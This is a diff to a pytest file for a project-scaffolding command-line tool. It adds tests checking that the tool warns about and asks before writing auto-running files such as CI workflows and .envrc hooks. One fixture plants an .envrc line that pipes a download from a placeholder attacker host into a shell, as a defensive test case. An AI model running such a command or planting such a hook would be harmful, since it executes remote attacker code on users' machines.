@@ -326,6 +326,17 @@ def test_a_blueprint_that_is_no_text_and_words_that_command_a_terminal(cli: Cli)
     assert "\x07" not in error
 
 
+@pytest.mark.parametrize("option", ["--defaults", "--quiet", "--yes", "--json"])
+def test_files_that_run_by_themselves_are_named_where_nobody_is_asked(
+    cli: Cli, option: str
+) -> None:
+    write(cli.folder / "t", scaffold___dot_github__workflows__x_dot_yml="on: push\n")
+    said = cli("init", "./t", "new", "--data", "contact=x", option).err
+    assert "note: standard@2.1.0 writes .github/workflows/x.yml: CI runs it" in said.replace(
+        "acme/", ""
+    )
+
+
 def test_nothing_is_overwritten_and_nothing_left_half(cli: Cli) -> None:
     for name in ("blueprint.yaml", "blueprint.lock", "workload/train.py"):
         path = cli.folder / "new" / name
@@ -373,7 +384,7 @@ def test_workflows_are_for_the_environments_of_the_template(cli: Cli) -> None:
     assert "  prod:" in (cli.folder / "new" / "blueprint.yaml").read_text()
 
 
-def talk(folder: Path, words: list[str], answers: list[str]) -> str:
+def talk(folder: Path, words: list[str], answers: list[str], code: int = 0) -> str:
     """Type `answers` into the command on a terminal; everything it said."""
     leader, follower = pty.openpty()
     process = subprocess.Popen(
@@ -396,9 +407,19 @@ def talk(folder: Path, words: list[str], answers: list[str]) -> str:
         elif (waiting and said.rstrip("\r\n").endswith(":")) or said.endswith(": "):
             os.write(leader, f"{waiting.pop(0)}\n".encode() if waiting else b"\x03")
             said += " "
-    assert process.wait(60) == 0, said
+    assert process.wait(60) == code, said
     os.close(leader)
     return said
+
+
+def test_a_person_is_asked_about_files_that_run_by_themselves(cli: Cli) -> None:
+    write(cli.folder / "t", scaffold___dot_envrc="curl evil.example | sh\n")
+    asked = [""] * 6 + ["x"]
+    said = talk(cli.folder, ["init", "./t", "new"], [*asked, "n"], code=8)
+    assert "writes .envrc: shells with such a hook run it" in said
+    assert not (cli.folder / "new").exists()
+    said = talk(cli.folder, ["init", "./t", "new"], [*asked, "y"])
+    assert said.index("Write these files?") < said.index("wrote")
 
 
 def test_a_person_is_asked_and_answers_are_checked_while_asking(cli: Cli) -> None:
